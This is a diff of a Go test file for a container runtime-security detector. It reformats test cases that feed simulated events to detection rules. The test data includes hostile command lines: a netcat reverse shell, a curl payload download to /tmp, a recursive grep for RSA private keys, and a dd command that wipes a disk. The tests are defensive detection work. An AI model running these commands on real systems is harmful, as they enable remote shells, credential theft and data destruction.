@@ -109,8 +109,12 @@ func TestRules(t *testing.T) {
 		alsoOnHits []string
 	}{
 		{"terminal-shell-in-container",
-			func(w *world) []string { return w.handle(withFlags(exec(200, 9000, "/bin/bash", "bash"), probes.FlagTTY)) },
-			func(w *world) []string { return w.handle(withFlags(exec(100, 50, "/bin/bash", "bash"), probes.FlagTTY)) }, nil},
+			func(w *world) []string {
+				return w.handle(withFlags(exec(200, 9000, "/bin/bash", "bash"), probes.FlagTTY))
+			},
+			func(w *world) []string {
+				return w.handle(withFlags(exec(100, 50, "/bin/bash", "bash"), probes.FlagTTY))
+			}, nil},
 		{"shell-spawned-by-server",
 			func(w *world) []string {
 				w.child(200, "/usr/sbin/nginx", "nginx")
@@ -128,16 +132,22 @@ func TestRules(t *testing.T) {
 				return w.handle(withFlags(ev(probes.KindDup, 200, func(e *probes.Event) { e.OldFD, e.NewFD = 3, 0 }), probes.FlagOldSocket))
 			}, nil},
 		{"netcat-remote-exec",
-			func(w *world) []string { return w.handle(exec(200, 100, "/bin/nc", "nc", "10.0.0.1", "4444", "-e", "/bin/sh")) },
+			func(w *world) []string {
+				return w.handle(exec(200, 100, "/bin/nc", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"))
+			},
 			func(w *world) []string { return w.handle(exec(200, 100, "/bin/nc", "nc", "10.0.0.1", "4444")) }, nil},
 		{"exec-from-tmp",
 			func(w *world) []string { return w.handle(exec(200, 100, "/tmp/x", "x")) },
 			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/tmpwatch", "tmpwatch")) }, nil},
 		{"container-client-tool",
-			func(w *world) []string { return w.handle(exec(200, 100, "/usr/local/bin/kubectl", "kubectl", "get", "pods")) },
+			func(w *world) []string {
+				return w.handle(exec(200, 100, "/usr/local/bin/kubectl", "kubectl", "get", "pods"))
+			},
 			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/kubectx", "kubectx")) }, nil},
 		{"container-drift",
-			func(w *world) []string { return w.handle(withFlags(exec(200, 100, "/app/payload", "payload"), probes.FlagUpper)) },
+			func(w *world) []string {
+				return w.handle(withFlags(exec(200, 100, "/app/payload", "payload"), probes.FlagUpper))
+			},
 			func(w *world) []string { return w.handle(exec(200, 100, "/app/payload", "payload")) }, nil},
 		{"new-executable-in-container",
 			func(w *world) []string { return w.handle(open(100, "/app/x", 0x41, 0o755)) },
@@ -146,7 +156,9 @@ func TestRules(t *testing.T) {
 			func(w *world) []string { return w.handle(exec(200, 100, "/sbin/apk", "apk", "add", "nmap")) },
 			func(w *world) []string { return w.handle(exec(200, 100, "/sbin/apkx", "apkx")) }, nil},
 		{"downloader-in-container",
-			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/curl", "curl", "-o", "/tmp/x", "http://e")) },
+			func(w *world) []string {
+				return w.handle(exec(200, 100, "/usr/bin/curl", "curl", "-o", "/tmp/x", "http://e"))
+			},
 			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/curl", "curl", "http://e")) }, nil},
 		{"outbound-nonstandard-port-from-shell",
 			func(w *world) []string {
@@ -156,7 +168,9 @@ func TestRules(t *testing.T) {
 				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Event) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("10.1.2.3"), 443 }))
 			}, nil},
 		{"fileless-exec-memfd",
-			func(w *world) []string { return w.handle(withFlags(exec(200, 100, "/memfd:x (deleted)", "x"), probes.FlagMemfd)) },
+			func(w *world) []string {
+				return w.handle(withFlags(exec(200, 100, "/memfd:x (deleted)", "x"), probes.FlagMemfd))
+			},
 			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/memfd-tool", "memfd-tool")) }, nil},
 		{"ptrace-injection",
 			func(w *world) []string {
@@ -169,8 +183,12 @@ func TestRules(t *testing.T) {
 			func(w *world) []string { return w.handle(open(100, "/proc/1/mem", 0, 0)) },
 			func(w *world) []string { return w.handle(open(100, "/proc/self/mem", 0, 0)) }, nil},
 		{"bpf-program-load",
-			func(w *world) []string { return w.handle(ev(probes.KindBPF, 100, func(e *probes.Event) { e.Cmd = bpfProgLoad })) },
-			func(w *world) []string { return w.handle(ev(probes.KindBPF, 100, func(e *probes.Event) { e.Cmd = 0 /* MAP_CREATE */ })) }, nil},
+			func(w *world) []string {
+				return w.handle(ev(probes.KindBPF, 100, func(e *probes.Event) { e.Cmd = bpfProgLoad }))
+			},
+			func(w *world) []string {
+				return w.handle(ev(probes.KindBPF, 100, func(e *probes.Event) { e.Cmd = 0 /* MAP_CREATE */ }))
+			}, nil},
 		{"clear-logs",
 			func(w *world) []string { return w.handle(open(100, "/var/log/auth.log", 0x201, 0)) },
 			func(w *world) []string { return w.handle(open(100, "/var/log/auth.log", 0x401, 0)) }, nil},
@@ -201,7 +219,9 @@ func TestRules(t *testing.T) {
 			func(w *world) []string { return w.handle(open(100, "/proc/1/environ", 0, 0)) },
 			func(w *world) []string { return w.handle(open(100, "/proc/100/environ", 0, 0)) }, nil},
 		{"credential-search",
-			func(w *world) []string { return w.handle(exec(200, 100, "/bin/grep", "grep", "-r", "BEGIN RSA PRIVATE KEY", "/")) },
+			func(w *world) []string {
+				return w.handle(exec(200, 100, "/bin/grep", "grep", "-r", "BEGIN RSA PRIVATE KEY", "/"))
+			},
 			func(w *world) []string { return w.handle(exec(200, 100, "/bin/grep", "grep", "-r", "TODO", "/src")) }, nil},
 		{"cloud-metadata-access",
 			func(w *world) []string {
@@ -231,7 +251,9 @@ func TestRules(t *testing.T) {
 			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/ssh", "ssh", "root@10.0.0.2")) },
 			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/ssh-keygen", "ssh-keygen")) }, nil},
 		{"kernel-module-load",
-			func(w *world) []string { return w.handle(ev(probes.KindModule, 100, func(e *probes.Event) { e.ModuleFD = 3 })) },
+			func(w *world) []string {
+				return w.handle(ev(probes.KindModule, 100, func(e *probes.Event) { e.ModuleFD = 3 }))
+			},
 			func(w *world) []string { return w.handle(open(100, "/lib/modules/x.ko", 0, 0)) }, nil},
 		{"write-below-binary-dir",
 			func(w *world) []string { return w.handle(open(100, "/usr/bin/ls", 0x241, 0o644)) },
@@ -315,7 +337,9 @@ func TestRules(t *testing.T) {
 				return w.handle(ev(probes.KindConnect, 200, func(e *probes.Event) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("10.0.0.5"), 3333 }))
 			}, nil},
 		{"data-destruction",
-			func(w *world) []string { return w.handle(exec(200, 100, "/bin/dd", "dd", "if=/dev/zero", "of=/dev/vda")) },
+			func(w *world) []string {
+				return w.handle(exec(200, 100, "/bin/dd", "dd", "if=/dev/zero", "of=/dev/vda"))
+			},
 			func(w *world) []string { return w.handle(exec(200, 100, "/bin/dd", "dd", "if=/dev/zero", "of=/tmp/f")) }, nil},
 		{"podguard-tamper",
 			func(w *world) []string { return w.handle(open(100, "/host/etc/podguard/rules.d/x.toml", 0x241, 0o644)) },
